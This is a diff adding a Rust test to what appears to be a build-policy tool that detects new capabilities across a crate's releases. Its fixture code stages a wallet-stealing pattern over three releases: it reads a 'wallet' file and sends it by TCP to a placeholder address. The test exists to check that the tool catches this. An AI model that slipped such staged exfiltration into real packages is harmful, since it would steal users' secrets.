@@ -2,9 +2,11 @@
 
 mod bench;
 mod cases;
+mod table;
 
 use bench::Bench;
 use cases::{Case, cases};
+use nanobuild_policy::diff::diff;
 
 /// Builds at a time.
 const WORKERS: usize = 2;
@@ -39,6 +41,49 @@ fn failure(bench: &Bench, case: &Case) -> Option<String> {
         None => names == case.expected,
     };
     (!fits).then(|| format!("{}: expected `{}`, found `{names}`", case.name, case.expected))
+}
+
+/// One release of a crate that grows its powers bit by bit.
+const fn release(library: &'static str) -> Case {
+    Case {
+        name: "split",
+        library,
+        files: &[],
+        manifest: "",
+        expected: "",
+    }
+}
+
+/// What is there already in one release, unused, and what the next one adds to a power that was agreed to.
+const RELEASES: [Case; 3] = [
+    release(
+        "pub fn send(_: &[u8]) -> u64 { std::net::TcpStream::connect(\"1.2.3.4:5\").is_ok() as u64 }
+pub fn run(x: u64) -> u64 { x }",
+    ),
+    release(
+        "pub fn send(_: &[u8]) -> u64 { std::net::TcpStream::connect(\"1.2.3.4:5\").is_ok() as u64 }
+pub fn run(x: u64) -> u64 { std::fs::read(\"wallet\").map_or(x, |wallet| wallet.len() as u64) }",
+    ),
+    release(
+        "pub fn send(_: &[u8]) -> u64 { std::net::TcpStream::connect(\"1.2.3.4:5\").is_ok() as u64 }
+pub fn run(x: u64) -> u64 { std::fs::read(\"wallet\").map_or(x, |wallet| send(&wallet)) }",
+    ),
+];
+
+#[test]
+fn a_power_that_is_split_over_releases_is_asked_about_each_time() {
+    let bench = Bench::new(WORKERS);
+    let [first, second, third] = RELEASES.map(|case| bench.signature(&case).unwrap_or_else(|error| panic!("{error}")));
+    let new = |old, new| {
+        let names = diff(old, new).new.into_keys().map(|capability| capability.to_string());
+        names.collect::<Vec<_>>().join(" ")
+    };
+    assert!(
+        first.capabilities().is_empty(),
+        "what nothing exported reaches is no power"
+    );
+    assert_eq!(new(&first, &second), "fs.read fs.write");
+    assert_eq!(new(&second, &third), "net.connect");
 }
 
 /// `docs/signature.md` has a row for each.
